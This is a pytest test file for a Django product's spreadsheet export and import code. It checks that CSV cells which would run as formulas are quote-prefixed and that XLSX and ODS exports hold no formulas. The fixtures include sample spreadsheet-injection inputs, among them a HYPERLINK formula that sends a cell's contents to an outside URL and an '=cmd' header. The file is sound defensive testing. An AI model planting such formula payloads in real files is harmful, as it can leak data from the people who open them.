"""Every file the product writes, read back as a spreadsheet would read it.

CSV: a text that a spreadsheet would run starts with ``'``, and the product's reader takes it off
again. XLSX and ODS: no formula anywhere, text exactly as the record holds it, numbers as numbers,
dates as dates with a date style.
"""

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import timezone
from django.utils.translation import gettext_lazy
from odf import teletype
from odf.opendocument import load
from odf.table import TableCell, TableRow

from imports.engine import KINDS
from imports.formats import read_table
from imports.models import ImportBatch
from imports.writing import DropDown, ExportRefused, Sheet, write_table, write_workbook
from tests.factories import (
    ActivityFactory,
    IndicatorValueFactory,
    InitiativeFactory,
    PartnerFactory,
    UserFactory,
    scoped_everywhere,
)

# Written out here rather than taken from the writer, so that dropping one there fails a test.
RUNNING_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
RUNNING = [
    '=HYPERLINK("http://x?x="&A1,"Click")',
    "+81 75 753 2045",
    "-idea",
    "@home",
    "＝１＋１",
    "＋８１ ７５",
    "－案",
    "＠ホーム",
    "\tTab-leading text",
]
HARMLESS = ["'quoted", "京都大学の国際戦略", "#N/A", "a-b = c"]
TEXTS = RUNNING + HARMLESS
DAY = dt.date(2025, 4, 21)
FORMATS = ["csv", "xlsx", "ods"]


def runs(text: str) -> bool:
    return text.startswith(RUNNING_PREFIXES)


# Reading files back: Python's csv, openpyxl and odfpy, as other programs would.


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_cells(content: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows()]


def ods_document(content: bytes):
    return load(io.BytesIO(content))


def ods_cells(document) -> list[list]:
    return [row.getElementsByType(TableCell) for row in document.getElementsByType(TableRow)]


def ods_data_style(document, cell):
    """The number style a cell's automatic style shows its value with."""
    styles = {style.getAttribute("name"): style for style in document.automaticstyles.childNodes}
    return styles[styles[cell.getAttribute("stylename")].getAttribute("datastylename")]


def ods_pattern(data_style) -> list[str]:
    """``['year', '-', 'month', '-', 'day']`` for a yyyy-mm-dd style."""
    return [
        str(part) if part.qname[1] == "text" else part.qname[1] for part in data_style.childNodes
    ]


def assert_no_formula(file_format: str, content: bytes) -> None:
    if file_format == "xlsx":
        cells = [cell for row in xlsx_cells(content) for cell in row]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        assert [cell.coordinate for cell in cells if cell.data_type == "e"] == []
    if file_format == "ods":
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            assert b"table:formula" not in archive.read("content.xml")
        cells = [cell for row in ods_cells(ods_document(content)) for cell in row]
        assert [cell for cell in cells if cell.getAttribute("formula")] == []


def assert_holds(file_format: str, content: bytes, expected: list[list[object]]) -> None:
    """The file holds exactly these rows (after its header), each value as what it is."""
    assert_no_formula(file_format, content)
    if file_format == "csv":
        rows = csv_rows(content)[1:]
        assert rows == [[csv_text(value) for value in row] for row in expected]
    elif file_format == "xlsx":
        rows = xlsx_cells(content)[1:]
        assert len(rows) == len(expected)
        for row, values in zip(rows, expected, strict=True):
            for cell, value in zip(row, values, strict=False):
                assert_xlsx_cell(cell, value)
    else:
        document = ods_document(content)
        rows = ods_cells(document)[1:]
        assert len(rows) == len(expected)
        for row, values in zip(rows, expected, strict=True):
            for cell, value in zip(row, values, strict=False):
                assert_ods_cell(document, cell, value)


def assert_texts_read_back(file_format: str, content: bytes, expected: list[list[object]]) -> None:
    """The product's reader gives every text back as the record holds it (a re-import)."""
    table = read_table(f"t.{file_format}", content)
    assert len(table.rows) == len(expected)
    for row, values in zip(table.rows, expected, strict=True):
        texts = {i: value for i, value in enumerate(values) if isinstance(value, str) and value}
        assert {i: row[i] for i in texts} == texts


def csv_text(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, str) and runs(value):
        return "'" + value
    return str(value)


def assert_xlsx_cell(cell, value: object) -> None:
    where = f"{cell.coordinate} should hold {value!r}"
    if value in (None, ""):
        assert cell.value is None, where
    elif isinstance(value, str):
        assert (cell.value, cell.data_type) == (value, "s"), where
        assert cell.quotePrefix == runs(value), where
    elif isinstance(value, dt.date):
        assert cell.is_date and cell.number_format == "yyyy-mm-dd", where
        assert cell.value == dt.datetime.combine(value, dt.time()), where
    else:
        assert cell.data_type == "n" and cell.value == value, where


def assert_ods_cell(document, cell, value: object) -> None:
    kind, where = cell.getAttribute("valuetype"), f"the cell should hold {value!r}"
    if value in (None, ""):
        assert kind is None and teletype.extractText(cell) == "", where
    elif isinstance(value, str):
        assert (kind, teletype.extractText(cell)) == ("string", value), where
    elif isinstance(value, dt.date):
        assert (kind, cell.getAttribute("datevalue")) == ("date", value.isoformat()), where
        style = ods_data_style(document, cell)
        assert style.qname[1] == "date-style", where
        assert ods_pattern(style) == ["year", "-", "month", "-", "day"], where
    else:
        assert (kind, Decimal(cell.getAttribute("value"))) == ("float", value), where


# The writer itself.


def test_csv_prefixes_every_text_a_spreadsheet_would_run_and_the_reader_takes_it_off():
    content = write_table("csv", ["title"], [[text] for text in TEXTS])
    cells = [row[0] for row in csv_rows(content)[1:]]
    assert cells == ["'" + text for text in RUNNING] + HARMLESS
    assert [row[0] for row in read_table("t.csv", content).rows] == TEXTS


def test_csv_writes_numbers_as_numbers_and_dates_as_iso_dates():
    row = [-5, Decimal("-1200.50"), 3.5, DAY, dt.datetime(2025, 4, 21, 9, 30), None]
    content = write_table("csv", list("abcdef"), [row])
    assert csv_rows(content)[1] == [
        "-5",
        "-1200.50",
        "3.5",
        "2025-04-21",
        "2025-04-21 09:30:00",
        "",
    ]


def test_csv_escapes_the_header_row_too():
    # An error workbook's or a dashboard's headers may come from an uploaded file.
    assert csv_rows(write_table("csv", ["=cmd", "ok"], []))[0] == ["'=cmd", "ok"]


@pytest.mark.parametrize("file_format", ["xlsx", "ods"])
def test_workbooks_hold_text_exactly_numbers_as_numbers_and_dates_as_dates(file_format):
    rows = [[text, -5, Decimal("1200.50"), DAY, None] for text in TEXTS]
    content = write_table(file_format, ["title", "n", "amount", "day", "empty"], rows)
    assert_holds(file_format, content, rows)
    table = read_table(f"t.{file_format}", content)
    assert [row[0] for row in table.rows] == TEXTS


@pytest.mark.parametrize("file_format", FORMATS)
def test_carriage_returns_and_escape_like_text_read_back_exactly(file_format):
    # XML reads a bare carriage return as a line feed; XLSX reads _x0041_ as "A" unless escaped.
    texts = ["\rCR-leading", "two\r\nlines", "tab\tinside  two spaces", "_x0041_ and _x005F_"]
    content = write_table(file_format, ["text"], [[text] for text in texts])
    assert [row[0] for row in read_table(f"t.{file_format}", content).rows] == texts


def test_xlsx_booleans_datetimes_and_times_keep_their_types():
    moment = timezone.make_aware(dt.datetime(2025, 4, 21, 0, 30), dt.UTC)
    content = write_table("xlsx", list("abcd"), [[True, moment, dt.time(9, 30), gettext_lazy("x")]])
    flag, when, time, lazy = xlsx_cells(content)[1]
    assert (flag.value, flag.data_type) == (True, "b")
    # A spreadsheet has no time zones: the time as the product shows it (Asia/Tokyo).
    assert when.value == dt.datetime(2025, 4, 21, 9, 30)
    assert when.number_format == "yyyy-mm-dd hh:mm:ss"
    assert time.value == dt.time(9, 30) and time.number_format == "hh:mm:ss"
    assert (lazy.value, lazy.data_type) == ("x", "s")


def test_ods_booleans_datetimes_and_times_carry_their_styles():
    moment = dt.datetime(2025, 4, 21, 9, 30, 15)
    document = ods_document(write_table("ods", list("abc"), [[False, moment, dt.time(9, 30)]]))
    flag, when, time = ods_cells(document)[1]
    assert (flag.getAttribute("valuetype"), flag.getAttribute("booleanvalue")) == (
        "boolean",
        "false",
    )
    assert ods_data_style(document, flag).qname[1] == "boolean-style"
    assert when.getAttribute("datevalue") == "2025-04-21T09:30:15"
    date_time = ["year", "-", "month", "-", "day", " ", "hours", ":", "minutes", ":", "seconds"]
    assert ods_pattern(ods_data_style(document, when)) == date_time
    assert (time.getAttribute("valuetype"), time.getAttribute("timevalue")) == (
        "time",
        "PT09H30M00S",
    )
    assert ods_data_style(document, time).qname[1] == "time-style"


def test_xlsx_keeps_control_characters_that_xml_cannot_hold():
    # The rows an import refuses for a control character come back in the error workbook.
    content = write_table("xlsx", ["title"], [["bell\x07here"]])
    assert read_table("t.xlsx", content).rows == [["bell\x07here"]]


def test_ods_refuses_control_characters_rather_than_changing_them():
    with pytest.raises(ExportRefused) as refused:
        write_table("ods", ["title", "city"], [["fine", "Kyo\x07to"]])
    assert "Row 2, column city: “\x07” (U+0007)" in str(refused.value)


def test_xlsx_marks_cells_and_keeps_their_text_from_running():
    rows = [[text, None] for text in RUNNING[:2]]
    content = write_table("xlsx", ["title", "city"], rows, marks={(0, 0): "error", (1, 1): "error"})
    cells = xlsx_cells(content)
    assert_holds("xlsx", content, rows)  # a marked text cell is still text, quote-prefixed
    marked = {
        cell.coordinate for row in cells for cell in row if cell.fill.fgColor.rgb.endswith("FFC7CE")
    }
    # Row 2 holds rows[0]; an empty cell is marked too (a required cell left blank).
    assert marked == {"A2", "B3"}


def test_a_workbook_of_sheets_with_a_drop_down_from_another_sheet():
    codes = Sheet("Codes", ["unit", "name"], [["ISO-KU", "International Strategy Office"]])
    main = Sheet(
        "Activities",
        ["external_ref", "unit"],
        [["EXAMPLE-1", "ISO-KU"]],
        marks={(0, 0): "example", (0, 1): "example"},
        drop_downs=[DropDown(column=1, sheet="Codes", values_column=0, first_row=2, last_row=2)],
    )
    workbook = openpyxl.load_workbook(io.BytesIO(write_workbook([main, codes])))
    assert workbook.sheetnames == ["Activities", "Codes"]
    sheet = workbook["Activities"]
    assert (sheet["A2"].font.i, sheet["A2"].font.color.rgb) == (True, "00808080")
    (validation,) = sheet.data_validations.dataValidation
    assert (validation.type, validation.formula1) == ("list", "'Codes'!$A$2:$A$2")
    assert str(validation.sqref) == "B2:B1048576"
    assert workbook["Codes"]["A2"].value == "ISO-KU"
    # The product's reader takes the first sheet, whatever the styles and drop-downs.
    assert read_table("t.xlsx", write_workbook([main, codes])).rows == [["EXAMPLE-1", "ISO-KU"]]


# The files the product writes for its users.


def make_records() -> None:
    """One partner, activity and initiative per text, and indicator values with decimals."""
    partner = PartnerFactory(name="Chulalongkorn University")
    initiative = InitiativeFactory(code="SHARED")
    for n, text in enumerate(TEXTS):
        PartnerFactory(name=text, city=text)
        ActivityFactory(
            title=text,
            description=f"{text}\nsecond line",
            initiative=initiative,
            partner=partner,
            start_date=DAY,
            end_date=DAY + dt.timedelta(days=n),
            inbound_participants=n,
        )
        InitiativeFactory(
            institution=initiative.institution,
            lead_unit=initiative.lead_unit,
            title=text,
            title_ja="京都大学の国際戦略",
            summary=text,
            start_date=DAY,
            budget_jpy=1_200_000 + n,
        )
    IndicatorValueFactory(fiscal_year=2025, target=Decimal("1200.50"), actual=Decimal("-5.00"))


def expected_rows(key: str) -> list[list[object]]:
    """The rows an export of ``key`` holds: each record's values as the sheet kind gives them."""
    kind = KINDS[key]()
    return [kind.export_row(obj) for obj in kind.export_queryset()]


def exported_titles(key: str) -> set[str]:
    title = KINDS[key]().headers().index("name" if key == "partners" else "title")
    return {row[title] for row in expected_rows(key)}


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", FORMATS)
def test_admin_exports_and_templates_of_every_sheet_kind(admin_client, file_format):
    make_records()
    for key in ("partners", "activities", "initiatives"):
        # The records are in the export (a partner's name is saved with its spaces collapsed).
        texts = {" ".join(text.split()) for text in TEXTS} if key == "partners" else set(TEXTS)
        assert texts <= exported_titles(key)
    for key in KINDS:
        url = reverse("admin:imports_importbatch_export", args=[key, file_format])
        response = admin_client.get(url)
        assert response.status_code == 200, key
        assert_holds(file_format, response.content, expected_rows(key))
        assert_texts_read_back(file_format, response.content, expected_rows(key))

        for language in ("en", "ja"):
            url = reverse("admin:imports_importbatch_template", args=[key, file_format])
            template = admin_client.get(url, {"headers": language}).content
            assert_no_formula(file_format, template)
            assert read_table(f"t.{file_format}", template).headers == KINDS[key]().headers(
                language
            )


@pytest.mark.django_db
def test_error_workbook_holds_the_failing_rows_as_uploaded(client, settings, tmp_path):
    settings.IMPORT_DIR = tmp_path / "imports"
    steward = UserFactory(is_staff=True)
    steward.user_permissions.set(
        Permission.objects.filter(codename__in=["import_sheets", "view_importbatch"])
    )
    client.force_login(scoped_everywhere(steward))
    kind = KINDS["activities"]()
    titles = [*TEXTS, "bell\x07here"]
    rows = [
        [f"X-{n}", title, "symposium", DAY, None, "NO-SUCH-UNIT"] for n, title in enumerate(titles)
    ]
    upload = io.BytesIO(write_table("xlsx", kind.headers(), rows))
    upload.name = "activities.xlsx"
    client.post(reverse("admin:imports_importbatch_upload"), {"kind": "activities", "file": upload})
    batch = ImportBatch.objects.get()
    response = client.get(reverse("admin:imports_importbatch_errors", args=[batch.pk]))
    assert response.status_code == 200
    assert_no_formula("xlsx", response.content)
    cells = xlsx_cells(response.content)
    for row, values in zip(cells[1:-1], rows, strict=False):
        for cell, value in zip(row, values, strict=False):
            assert_xlsx_cell(cell, value)
    assert len(cells) == len(rows) + 1
    table = read_table("errors.xlsx", response.content)
    assert [row[1] for row in table.rows] == titles
